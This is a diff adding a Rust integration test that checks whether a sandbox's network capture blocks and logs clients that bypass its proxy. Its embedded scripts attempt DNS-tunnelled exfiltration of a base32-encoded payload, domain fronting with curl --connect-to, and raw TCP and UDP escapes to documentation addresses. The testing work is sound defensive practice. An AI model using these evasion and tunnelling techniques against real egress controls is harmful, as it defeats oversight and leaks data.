@@ -1,0 +1,292 @@
+//! Transparent capture inside `sandbox run` (issue 6): clients that ignore the proxy variables
+//! still go through policy and the log. DNS is the supervisor's resolver (synthetic addresses
+//! for allowed names, NXDOMAIN and a `dns` record otherwise); every TCP connection reaches the
+//! proxy with its original destination; UDP other than DNS is dropped and logged.
+//!
+//! These tests name documentation addresses (192.0.2.x, 2001:db8::/32). Each one re-runs itself
+//! inside a fresh user+network namespace that has only `lo` (as each user), and the script
+//! inside the sandbox checks that its namespace is not the test's before it sends anything.
+
+use integration_tests::netns;
+use integration_tests::sandbox_harness::{run, tagged, TestDir};
+use integration_tests::upstream::{TestCa, Upstream};
+use integration_tests::users::{each_user, User};
+use serde_json::Value;
+
+/// Python helpers used by the scripts: raw DNS over UDP and TCP to any address (the namespace
+/// redirects port 53 to the sandbox's resolver), a raw TCP probe and a raw UDP sender.
+const PY_HELPERS: &str = r#"
+import socket, struct, sys, base64
+def query(name, qtype):
+    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\0" + struct.pack("!HH", qtype, 1)
+def parse(r):
+    rcode = r[3] & 15
+    ancount = struct.unpack("!H", r[6:8])[0]
+    addrs = []
+    i = 12
+    while r[i]: i += r[i] + 1
+    i += 5
+    for _ in range(ancount):
+        i += 2 + 8
+        n = struct.unpack("!H", r[i:i+2])[0]; i += 2
+        raw = r[i:i+n]; i += n
+        addrs.append(socket.inet_ntop(socket.AF_INET if n == 4 else socket.AF_INET6, raw))
+    return rcode, addrs
+def dns_udp(server, name, qtype):
+    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(query(name, qtype), (server, 53))
+    return parse(s.recv(4096))
+def dns_tcp(server, name, qtype):
+    s = socket.create_connection((server, 53), timeout=5)
+    q = query(name, qtype)
+    s.sendall(struct.pack("!H", len(q)) + q)
+    n = struct.unpack("!H", s.recv(2))[0]
+    r = b""
+    while len(r) < n: r += s.recv(n - len(r))
+    return parse(r)
+def tcp_probe(host, port, payload):
+    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+    s = socket.socket(fam)
+    s.settimeout(10)
+    try:
+        s.connect((host, port))
+        s.sendall(payload)
+        data = s.recv(100)
+        return "closed" if not data else "data"
+    except OSError as e:
+        return "error " + e.__class__.__name__ + " " + str(e)
+def udp_send(host, port):
+    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
+    try:
+        socket.socket(fam, socket.SOCK_DGRAM).sendto(b"escape", (host, port))
+        return "sent"
+    except OSError as e:
+        return "error " + str(e)
+"#;
+
+/// The script prologue: stop unless the sandbox's network namespace differs from the test's.
+fn netns_guard(test_netns: &str) -> String {
+    format!(
+        r#"here=$(readlink /proc/self/ns/net)
+if [ -z "$here" ] || [ "$here" = "{test_netns}" ]; then echo "NETNS same $here"; exit 3; fi
+echo "NETNS other"
+"#
+    )
+}
+
+fn test_netns() -> String {
+    std::fs::read_link("/proc/self/ns/net")
+        .expect("read /proc/self/ns/net")
+        .display()
+        .to_string()
+}
+
+fn records(dir: &TestDir) -> Vec<Value> {
+    integration_tests::flowcheck::verify_chain(&dir.log_path()).expect("an intact flow log")
+}
+
+fn find<'a>(records: &'a [Value], pred: impl Fn(&Value) -> bool) -> Vec<&'a Value> {
+    records.iter().filter(|r| pred(r)).collect()
+}
+
+#[test]
+fn clients_that_ignore_proxy_variables_go_through_policy_and_the_log() {
+    const NAME: &str = "clients_that_ignore_proxy_variables_go_through_policy_and_the_log";
+    if !netns::inside() {
+        for user in each_user() {
+            netns::rerun(user, NAME);
+        }
+        return;
+    }
+    // Inside the test namespace the caller is already the user under test.
+    let user = User::Current;
+    let dir = TestDir::new(user, "capture");
+    let ca = TestCa::new();
+    let upstream = Upstream::start(&ca, &["allowed.example"], &["h2", "http/1.1"]);
+    let ca_pem = dir.write("upstream-ca.pem", &ca.pem());
+    dir.write("ws/helpers.py", PY_HELPERS);
+    let contract = dir.contract("write = [\".\"]\n", &["allowed.example"]);
+    let connect_to = upstream.connect_to("allowed.example");
+    let script = format!(
+        r#"{guard}
+echo "CURL $(curl --noproxy '*' -sS https://allowed.example/v1/models 2>&1)"
+echo "CURL6 $(curl -6 --noproxy '*' -sS https://allowed.example/v1/models 2>&1)"
+echo "CURLPROXY $(curl -sS https://allowed.example/v1/models 2>&1)"
+echo "CURLBLOCK $(curl --noproxy '*' -sS https://blocked.example/ 2>&1; echo " rc=$?")"
+echo "CURLFRONT $(curl --noproxy '*' -sS --connect-to blocked.example:443:allowed.example:443 https://blocked.example/ 2>&1; echo " rc=$?")"
+echo "CURLV6LIT $(curl --noproxy '*' -sS -m 10 'https://[2001:db8::1]/' 2>&1; echo " rc=$?")"
+echo "CURLHTTP $(curl --noproxy '*' -sS http://allowed.example/v1/models 2>&1)"
+echo "GETENT $(getent hosts allowed.example)"
+echo "GETENTBLOCK $(getent hosts blocked.example; echo rc=$?)"
+env -u NODE_USE_ENV_PROXY -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy node -e '
+fetch("https://allowed.example/v1/models").then(r => r.text()).then(t => console.log("NODE rc=0", t)).catch(e => console.log("NODE rc=1", e.cause || e))'
+env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy python3 - <<'PY'
+import http.client, ssl, sys
+sys.path.insert(0, ".")
+from helpers import *
+try:
+    c = http.client.HTTPSConnection("allowed.example", timeout=20, context=ssl.create_default_context())
+    c.request("GET", "/v1/models")
+    print("PY rc=0", c.getresponse().read().decode())
+except Exception as e:
+    print("PY rc=1", e)
+print("DNSUDP", dns_udp("192.0.2.53", "allowed.example", 1))
+print("DNSTCP", dns_tcp("192.0.2.53", "allowed.example", 28))
+print("DNSBLOCK", dns_udp("127.0.0.1", "blocked.example", 1))
+secret = base64.b32encode(b"exfiltrated-bytes-0123456789").decode().rstrip("=").lower()
+print("TUNNEL", dns_udp("192.0.2.53", secret + ".allowed.example", 16), dns_tcp("192.0.2.53", secret + ".blocked.example", 16))
+print("NC", tcp_probe("192.0.2.1", 25, b"EHLO sandbox\r\n"))
+print("NC6", tcp_probe("2001:db8::1", 2222, b"SSH-2.0-probe\r\n"))
+print("UDP", udp_send("192.0.2.1", 9))
+print("UDP6", udp_send("2001:db8::1", 443))
+PY
+"#,
+        guard = netns_guard(&test_netns())
+    );
+    let out = run(
+        user,
+        &dir,
+        &[
+            "--contract",
+            contract.to_str().unwrap(),
+            "--connect-to",
+            &connect_to,
+            "--upstream-ca",
+            ca_pem.to_str().unwrap(),
+        ],
+        &script,
+    );
+    let ctx = format!("as {}:\n{}", user.label(), out.both());
+    assert_eq!(tagged(&out.stdout, "NETNS"), "NETNS other", "{ctx}");
+    assert_eq!(out.code, 0, "{ctx}");
+    let s = &out.stdout;
+    let reached = |tag: &str| tagged(s, tag).contains(r#""path":"/v1/models""#);
+    // Allowed: curl without the proxy (IPv4 and IPv6), the proxy-aware default, Node and Python.
+    for tag in ["CURL", "CURL6", "CURLPROXY"] {
+        assert!(reached(tag), "{tag}: {ctx}");
+    }
+    assert!(
+        tagged(s, "NODE").starts_with("NODE rc=0") && reached("NODE"),
+        "{ctx}"
+    );
+    assert!(
+        tagged(s, "PY").starts_with("PY rc=0") && reached("PY"),
+        "{ctx}"
+    );
+    // Denied at DNS, with a clear error for the agent.
+    assert!(
+        tagged(s, "CURLBLOCK").contains("Could not resolve host"),
+        "{ctx}"
+    );
+    assert!(tagged(s, "GETENTBLOCK").ends_with("rc=2"), "{ctx}");
+    // The synthetic answer is from the reserved ranges, never a real address.
+    let getent = tagged(s, "GETENT");
+    assert!(
+        getent.starts_with("GETENT 198.18.") || getent.starts_with("GETENT fd53:616e:6462:6f78:"),
+        "{ctx}"
+    );
+    assert!(tagged(s, "DNSUDP").contains("(0, ['198.18."), "{ctx}");
+    assert!(
+        tagged(s, "DNSTCP").contains("(0, ['fd53:616e:6462:6f78::"),
+        "{ctx}"
+    );
+    assert_eq!(tagged(s, "DNSBLOCK"), "DNSBLOCK (3, [])", "{ctx}");
+    assert_eq!(tagged(s, "TUNNEL"), "TUNNEL (3, []) (3, [])", "{ctx}");
+    // SNI must agree with the synthetic address's name; IP literals need a rule.
+    for tag in ["CURLFRONT", "CURLV6LIT"] {
+        let line = tagged(s, tag);
+        assert!(
+            !line.contains("/v1/models") && !line.ends_with(" rc=0"),
+            "{tag}: {ctx}"
+        );
+    }
+    // Plain http is not in the rule's schemes: the proxy's 403 JSON.
+    assert!(tagged(s, "CURLHTTP").contains("egress_denied"), "{ctx}");
+    // Raw TCP to an arbitrary port is reset; UDP is dropped with a clear error.
+    for tag in ["NC", "NC6"] {
+        let line = tagged(s, tag);
+        assert!(
+            line.contains("Reset") || line.contains("closed"),
+            "{tag}: {ctx}"
+        );
+    }
+    for tag in ["UDP", "UDP6"] {
+        assert!(
+            tagged(s, tag).contains("Operation not permitted"),
+            "{tag}: {ctx}"
+        );
+    }
+    // Exactly the allowed clients reached the upstream.
+    let received = upstream.received();
+    assert_eq!(received.len(), 5, "{ctx}");
+
+    // The log: every attempt, in one intact chain.
+    let recs = records(&dir);
+    let log = serde_json::to_string_pretty(&recs).unwrap();
+    let dns_deny = find(&recs, |r| {
+        r["kind"] == "dns" && r["decision"] == "deny" && r["detail"]["qname"] == "blocked.example"
+    });
+    assert!(!dns_deny.is_empty(), "{log}");
+    let tunnel = find(&recs, |r| {
+        r["kind"] == "dns"
+            && r["decision"] == "deny"
+            && r["detail"]["qtype"] == "TXT"
+            && r["detail"]["qname"]
+                .as_str()
+                .is_some_and(|q| q.ends_with(".allowed.example") && q.len() > 40)
+    });
+    assert_eq!(tunnel.len(), 1, "the tunnelling attempt is logged: {log}");
+    let dns_allow = find(&recs, |r| {
+        r["kind"] == "dns" && r["decision"] == "allow" && r["host"] == "allowed.example"
+    });
+    assert!(!dns_allow.is_empty(), "{log}");
+    let intercepted = find(&recs, |r| {
+        r["kind"] == "connect"
+            && r["decision"] == "allow"
+            && r["host"] == "allowed.example"
+            && r["tls"]["sni"] == "allowed.example"
+    });
+    assert!(intercepted.len() >= 4, "{log}");
+    // The upstream address is the pinned --connect-to one; the agent only saw synthetic ones.
+    assert!(
+        intercepted
+            .iter()
+            .all(|r| r["addr"] == "127.0.0.1" || r["addr"] == "::1"),
+        "{log}"
+    );
+    let tcp_deny = |host: &str, port: u64| {
+        find(&recs, |r| {
+            r["kind"] == "tcp" && r["decision"] == "deny" && r["host"] == host && r["port"] == port
+        })
+    };
+    let nc = tcp_deny("192.0.2.1", 25);
+    assert_eq!(nc.len(), 1, "{log}");
+    assert_eq!(nc[0]["detail"]["first_bytes_len"], 14, "{log}");
+    assert_eq!(nc[0]["detail"]["original_dst"], "192.0.2.1:25", "{log}");
+    assert_eq!(tcp_deny("2001:db8::1", 2222).len(), 1, "{log}");
+    assert_eq!(tcp_deny("2001:db8::1", 443).len(), 1, "{log}");
+    let fronted = tcp_deny("allowed.example", 443);
+    assert!(
+        fronted.is_empty(),
+        "domain fronting is refused by the tunnel's SNI check, not here: {log}"
+    );
+    let sni = find(&recs, |r| {
+        r["kind"] == "connect"
+            && r["decision"] == "deny"
+            && r["tls"]["sni"] == "blocked.example"
+            && r["host"] == "allowed.example"
+    });
+    assert_eq!(sni.len(), 1, "the SNI mismatch is logged: {log}");
+    let udp = |host: &str, port: u64| {
+        find(&recs, |r| {
+            r["kind"] == "udp" && r["decision"] == "deny" && r["host"] == host && r["port"] == port
+        })
+        .len()
+    };
+    assert_eq!(udp("192.0.2.1", 9), 1, "{log}");
+    assert_eq!(udp("2001:db8::1", 443), 1, "{log}");
+}
